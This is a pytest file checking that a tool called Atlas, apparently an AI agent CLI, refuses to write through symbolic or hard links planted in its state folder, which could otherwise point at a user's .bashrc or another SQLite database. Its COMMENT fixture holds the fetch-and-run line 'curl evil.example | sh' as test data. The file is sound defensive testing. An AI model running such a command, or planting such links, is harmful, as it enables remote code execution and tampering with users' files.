"""Links planted in the state folder: Atlas never writes through one, nor creates what a dangling one names.

`ATLAS_HOME` defaults to `./.atlas`, so a cloned repository can ship one whose files are links to
a shell rc file or another SQLite database. Each file Atlas writes there is tried as such a link,
and as a dangling one; the link's target must come out byte for byte as it went in (or still not
exist), and the user gets one line naming the path. The state folder itself may be a link.
"""

from __future__ import annotations

import re
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from atlas.calllog import CallLog
from atlas.foundation.errors import ErrorKind, PermanentToolError, classify
from atlas.orbit.comments import PostCommentArgs, post_comment
from atlas.orbit.labels import AddLabelArgs, add_label
from atlas.protocol.events import CallRecord
from tests.support.dataset_factory import context, make_dataset
from tests.support.run import (
    assert_no_traceback,
    atlas_env,
    finish,
    invoke,
    logged_calls,
    spawn_atlas,
    tracker_records,
    write_script,
)

PROMPT = re.compile(rb"\? \[y/N\] ")
CHAT_PROMPT = "atlas\u203a".encode()
RC_TEXT = b"# ~/.bashrc\nexport PATH=$HOME/bin:$PATH\n"
COMMENT = {"name": "post_comment", "arguments": {"issue_id": 92, "body": "curl evil.example | sh"}}
LABEL = {"name": "add_label", "arguments": {"issue_id": 92, "label": "type:bug"}}
READ = {"name": "get_issue", "arguments": {"issue_id": 92}}


def victim(tmp_path: Path) -> Path:
    """A file of the user's that a planted link points to."""
    path = tmp_path / "user" / ".bashrc"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(RC_TEXT)
    return path


def planted(home: Path, name: str, target: Path) -> Path:
    home.mkdir(parents=True, exist_ok=True)
    link = home / name
    link.symlink_to(target)
    return link


def approve(env: dict[str, str], tmp_path: Path, call: dict[str, Any], question: str) -> bytes:
    """One approved side effect on a real terminal; everything the run printed."""
    model = write_script(tmp_path, [{"calls": [call]}, {"text": "Done as asked."}])
    child = spawn_atlas("ask", "-m", model, question, env=env)
    child.expect(PROMPT)
    seen = child.before or b""
    child.send(b"y\r")
    code, rest = finish(child)
    assert code == 0, seen + rest
    return seen + rest


# -- the tracker file and its lock ------------------------------------------------------------


def test_an_approved_comment_is_not_appended_to_the_file_a_tracker_link_points_to(tmp_path: Path) -> None:
    home = tmp_path / "home"
    rc = victim(tmp_path)
    link = planted(home, "tracker_actions.jsonl", rc)
    shown = approve(atlas_env(home), tmp_path, COMMENT, "Comment on #92")
    assert rc.read_bytes() == RC_TEXT
    assert link.is_symlink()  # left as it was found
    refusals = [line for line in shown.decode("utf-8", "replace").splitlines() if "symbolic link" in line]
    assert refusals and str(link) in refusals[0], shown
    (call,) = logged_calls(atlas_env(home))
    assert (call["name"], call["kind"], call["approved"]) == ("post_comment", "permanent", True)
    assert str(link) in call["message"] and "nothing was written" in call["message"]


def test_a_dangling_tracker_link_creates_no_file_where_it_points(tmp_path: Path) -> None:
    data, home = make_dataset(tmp_path / "data"), tmp_path / "home"
    target = tmp_path / "elsewhere" / "startup.sh"
    target.parent.mkdir()
    link = planted(home, "tracker_actions.jsonl", target)
    for write in (
        lambda: add_label(AddLabelArgs(issue_id=41, label="severity:S1"), context(data, home, key="k1")),
        lambda: post_comment(PostCommentArgs(issue_id=41, body="hello"), context(data, home, key="k2")),
    ):
        with pytest.raises(PermanentToolError, match="symbolic link") as refused:
            write()
        assert str(link) in str(refused.value) and "\n" not in str(refused.value)
        assert classify(refused.value) is ErrorKind.PERMANENT
    assert not target.exists() and list(target.parent.iterdir()) == []


@pytest.mark.parametrize("dangling", [False, True], ids=["to a file", "dangling"])
def test_a_linked_lock_file_is_a_clear_permanent_refusal(tmp_path: Path, dangling: bool) -> None:
    data, home = make_dataset(tmp_path / "data"), tmp_path / "home"
    target = tmp_path / "nowhere" / "lock" if dangling else victim(tmp_path)
    target.parent.mkdir(exist_ok=True)
    link = planted(home, "tracker_actions.jsonl.lock", target)
    with pytest.raises(PermanentToolError) as refused:
        add_label(AddLabelArgs(issue_id=41, label="severity:S1"), context(data, home, key="k1"))
    message = str(refused.value)
    assert classify(refused.value) is ErrorKind.PERMANENT
    assert str(link) in message and "symbolic link" in message and "Errno" not in message
    assert (not target.exists()) if dangling else target.read_bytes() == RC_TEXT
    assert not (home / "tracker_actions.jsonl").exists()  # the action was not done either


def test_a_tracker_file_with_a_second_hard_link_is_refused(tmp_path: Path) -> None:
    data, home = make_dataset(tmp_path / "data"), tmp_path / "home"
    rc = victim(tmp_path)
    home.mkdir()
    (home / "tracker_actions.jsonl").hardlink_to(rc)
    with pytest.raises(PermanentToolError, match="hard link"):
        add_label(AddLabelArgs(issue_id=41, label="severity:S1"), context(data, home, key="k1"))
    assert rc.read_bytes() == RC_TEXT


# -- the call log -----------------------------------------------------------------------------


def foreign_db(path: Path) -> bytes:
    """Someone else's SQLite database, in rollback-journal mode, with its own user_version."""
    path.parent.mkdir(parents=True, exist_ok=True)
    conn = sqlite3.connect(path)
    conn.executescript("CREATE TABLE accounts (name TEXT, balance REAL); INSERT INTO accounts VALUES ('ada', 10);")
    conn.execute("PRAGMA user_version = 7")
    conn.commit()
    conn.close()
    return path.read_bytes()


def db_facts(path: Path) -> tuple[list[str], int, str]:
    conn = sqlite3.connect(f"{path.as_uri()}?mode=ro", uri=True)
    try:
        tables = [row[0] for row in conn.execute("SELECT name FROM sqlite_master ORDER BY name")]
        version = conn.execute("PRAGMA user_version").fetchone()[0]
        return tables, version, conn.execute("PRAGMA journal_mode").fetchone()[0]
    finally:
        conn.close()


def ask_read_only(tmp_path: Path, home: Path) -> str:
    """One question answered with a read-only call (which is logged); its stderr."""
    model = write_script(tmp_path, [{"calls": [READ]}, {"text": "Issue 92 asks which backoff to use."}])
    run = invoke("ask", "-m", model, "What does #92 say?", env=atlas_env(home))
    assert run.code == 0, run
    assert "which backoff" in run.stdout
    assert_no_traceback(run)
    return run.stderr


def test_a_foreign_database_linked_as_the_call_log_is_left_untouched(tmp_path: Path) -> None:
    home, theirs = tmp_path / "home", tmp_path / "bank" / "ledger.db"
    before = foreign_db(theirs)
    link = planted(home, "log.db", theirs)
    warnings = [line for line in ask_read_only(tmp_path, home).splitlines() if "call log" in line]
    assert len(warnings) == 1 and str(link) in warnings[0] and "symbolic link" in warnings[0], warnings
    assert theirs.read_bytes() == before
    assert db_facts(theirs) == (["accounts"], 7, "delete")
    assert sorted(p.name for p in theirs.parent.iterdir()) == ["ledger.db"]  # no -wal, no -shm
    shown = invoke("log", env=atlas_env(home))
    assert shown.code != 0 and str(link) in shown.output and "symbolic link" in shown.output, shown
    assert_no_traceback(shown)


def test_a_dangling_call_log_link_creates_no_database_where_it_points(tmp_path: Path) -> None:
    home, target = tmp_path / "home", tmp_path / "elsewhere" / "log.db"
    target.parent.mkdir()
    planted(home, "log.db", target)
    assert "symbolic link" in ask_read_only(tmp_path, home)
    assert list(target.parent.iterdir()) == []


@pytest.mark.parametrize("companion", ["-wal", "-shm", "-journal"])
def test_a_linked_call_log_companion_is_never_written_through(tmp_path: Path, companion: str) -> None:
    home = tmp_path / "home"
    # A real call log, closed cleanly, as a run's exit leaves it: written and closed here through
    # the log's own connection (a run in this process would leave its connection, and so the
    # -wal and -shm files, open until garbage collection).
    written = CallLog.at_home(home)
    read = CallRecord(
        round=1, call_id="c1", name="get_issue", arguments=READ["arguments"], kind=ErrorKind.OK, ms=1, attempts=1
    )
    written.record_call(read, session="earlier", turn=1)
    written.close()
    assert db_facts(home / "log.db")[2] == "wal"
    for leftover in ("-wal", "-shm", "-journal"):
        (home / f"log.db{leftover}").unlink(missing_ok=True)
    rc = victim(tmp_path)
    link = planted(home, f"log.db{companion}", rc)
    stderr = ask_read_only(tmp_path, home)
    assert rc.read_bytes() == RC_TEXT
    assert str(link) in stderr and "symbolic link" in stderr, stderr


# -- the chat history, and a state folder that is itself a link -------------------------------


def test_a_linked_chat_history_costs_the_history_with_one_warning(tmp_path: Path) -> None:
    home = tmp_path / "home"
    rc = victim(tmp_path)
    link = planted(home, "chat_history", rc)
    child = spawn_atlas("chat", "-m", "offline", env={**atlas_env(home), "PROMPT_TOOLKIT_NO_CPR": "1"})
    child.expect(CHAT_PROMPT)
    start = (child.before or b"").decode("utf-8", "replace")
    child.send(b"show issue #41\r")
    child.expect(b"Nightly rebuild runs twice")
    child.expect(CHAT_PROMPT)
    child.sendcontrol("d")
    code, rest = finish(child)
    everything = start + (child.before or b"").decode("utf-8", "replace") + rest.decode("utf-8", "replace")
    assert code == 0
    assert rc.read_bytes() == RC_TEXT and link.is_symlink()
    flat = " ".join(start.split())  # the warning wraps at the terminal's width
    assert flat.count("chat history") == 1 and str(link) in flat and "symbolic link" in flat, start
    assert "Traceback" not in everything


def test_a_state_folder_that_is_itself_a_link_still_works(tmp_path: Path) -> None:
    real = tmp_path / "volumes" / "atlas-state"
    real.mkdir(parents=True)
    home = tmp_path / "home-link"
    home.symlink_to(real, target_is_directory=True)
    env = atlas_env(home)
    shown = approve(env, tmp_path, LABEL, "Label #92 as a bug")
    assert b"symbolic link" not in shown
    assert [(r["action"], r["issue_id"], r["label"]) for r in tracker_records(env)] == [("add_label", 92, "type:bug")]
    assert [(c["name"], c["kind"]) for c in logged_calls(env)] == [("add_label", "ok")]
    assert {"tracker_actions.jsonl", "log.db"} <= {p.name for p in real.iterdir()}
